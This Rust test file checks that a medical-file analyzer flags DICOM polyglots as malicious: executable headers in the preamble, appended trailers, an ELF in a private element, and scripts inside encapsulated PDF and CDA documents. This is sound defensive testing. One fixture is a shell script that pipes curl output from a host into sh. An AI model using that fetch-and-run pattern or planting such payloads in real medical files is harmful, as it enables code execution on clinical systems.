//! Polyglots built from real samples must be malicious, whatever else they still are.

mod support;

use safecare_files::{Analyzer, Severity, VerdictLevel};
use support::*;

const SAMPLES: [&str; 4] = [
    "CT_small.dcm",
    "MR_small_implicit.dcm",
    "MR_small_bigendian.dcm",
    "JPEG2000.dcm",
];

fn assert_malicious(bytes: &[u8], kind: &str, what: &str) -> safecare_files::Verdict {
    let verdict = Analyzer::default().analyze_bytes(what, bytes);
    assert_eq!(
        verdict.verdict,
        VerdictLevel::Malicious,
        "{what}: {}",
        verdict.to_json_line()
    );
    assert!(
        verdict.has(kind),
        "{what}: no {kind} in {}",
        verdict.to_json_line()
    );
    verdict
}

#[test]
fn pe_elf_and_zip_headers_in_the_preamble_are_malicious() {
    for name in SAMPLES {
        for (header, label) in [
            (pe_header(), "pe"),
            (elf_header(), "elf"),
            (zip_header(), "zip"),
        ] {
            let bytes = with_preamble(sample(name), &header);
            let verdict =
                assert_malicious(&bytes, "dicom.preamble_code", &format!("{label} in {name}"));
            // Still typed as DICOM: the content after the preamble is an image.
            assert_eq!(verdict.file_type, "dicom");
            let finding = verdict
                .findings
                .iter()
                .find(|f| f.kind == "dicom.preamble_code")
                .unwrap();
            assert_eq!(finding.offset, Some(0));
            assert!(finding.detail.contains(label), "{}", finding.detail);
        }
    }
}

#[test]
fn a_script_appended_after_the_dataset_is_malicious_at_its_offset() {
    let script = b"#!/bin/sh\ncurl -s http://127.0.0.1/x | sh\n";
    for name in SAMPLES {
        let mut bytes = sample(name);
        let end = bytes.len() as u64;
        bytes.extend_from_slice(script);
        let verdict = assert_malicious(
            &bytes,
            "dicom.trailing_code",
            &format!("script after {name}"),
        );
        let finding = verdict
            .findings
            .iter()
            .find(|f| f.kind == "dicom.trailing_code")
            .unwrap();
        assert_eq!(finding.offset, Some(end), "{name}");
    }
}

#[test]
fn a_zip_or_pe_appended_after_the_dataset_is_malicious() {
    for trailer in [zip_header(), pe_header()] {
        let mut bytes = sample("CT_small.dcm");
        bytes.extend_from_slice(&trailer);
        assert_malicious(&bytes, "dicom.trailing_code", "trailer after CT_small");
    }
}

#[test]
fn an_elf_in_a_private_ob_element_is_malicious() {
    let mut dataset = small_dataset();
    let mut payload = elf_header();
    payload.resize(256, 0x90);
    dataset.extend(short_element(0x0009, 0x0010, b"LO", b"EVIL CORP "));
    dataset.extend(long_element(
        0x0009,
        0x1000,
        b"OB",
        payload.len() as u32,
        &payload,
    ));
    assert_malicious(
        &part10(&dataset),
        "dicom.embedded_code",
        "elf in private OB",
    );
}

/// A dataset holding `document` as an Encapsulated Document (0042,0011) of MIME type `mime`.
fn encapsulated(document: &[u8], mime: &[u8]) -> Vec<u8> {
    let mut value = document.to_vec();
    if value.len() % 2 == 1 {
        value.push(0);
    }
    let mut dataset = small_dataset();
    dataset.extend(long_element(
        0x0042,
        0x0011,
        b"OB",
        value.len() as u32,
        &value,
    ));
    dataset.extend(short_element(0x0042, 0x0012, b"LO", mime));
    part10(&dataset)
}

#[test]
fn javascript_in_an_encapsulated_pdf_is_malicious() {
    let pdf = b"%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.launchURL('x')) >> >>\nendobj\n";
    let verdict = assert_malicious(
        &encapsulated(pdf, b"application/pdf "),
        "dicom.document_script",
        "pdf with javascript",
    );
    assert!(verdict.has("dicom.document_active"));

    let plain = b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >>\nendobj\n";
    let verdict =
        Analyzer::default().analyze_bytes("plain pdf", &encapsulated(plain, b"application/pdf "));
    assert_eq!(
        verdict.verdict,
        VerdictLevel::Clean,
        "{}",
        verdict.to_json_line()
    );
}

#[test]
fn script_in_an_encapsulated_cda_is_malicious() {
    let cda = b"<?xml version=\"1.0\"?><ClinicalDocument><text><script>fetch('x')</script></text></ClinicalDocument>";
    assert_malicious(
        &encapsulated(cda, b"text/XML"),
        "dicom.document_script",
        "cda with script",
    );
}

#[test]
fn patient_identifiers_are_named_never_valued_and_suspicious_when_required() {
    let mut dataset = small_dataset();
    dataset.extend(short_element(0x0010, 0x0010, b"PN", b"Doe^Jane"));
    dataset.extend(short_element(0x0010, 0x0030, b"DA", b"19700101"));
    let bytes = part10(&dataset);

    let lenient = Analyzer::default().analyze_bytes("phi", &bytes);
    assert_eq!(lenient.verdict, VerdictLevel::Clean);

    let mut config = safecare_files::AnalysisConfig::default();
    config.dicom.require_pseudonymised = true;
    let strict = Analyzer::new(config).analyze_bytes("phi", &bytes);
    assert_eq!(strict.verdict, VerdictLevel::Suspicious);
    let finding = strict
        .findings
        .iter()
        .find(|f| f.kind == "dicom.patient_identifiers")
        .unwrap();
    assert_eq!(finding.severity, Severity::Medium);
    assert!(finding.detail.contains("PatientName") && finding.detail.contains("PatientBirthDate"));
    let json = strict.to_json_line();
    assert!(
        !json.contains("Doe") && !json.contains("19700101"),
        "{json}"
    );
}
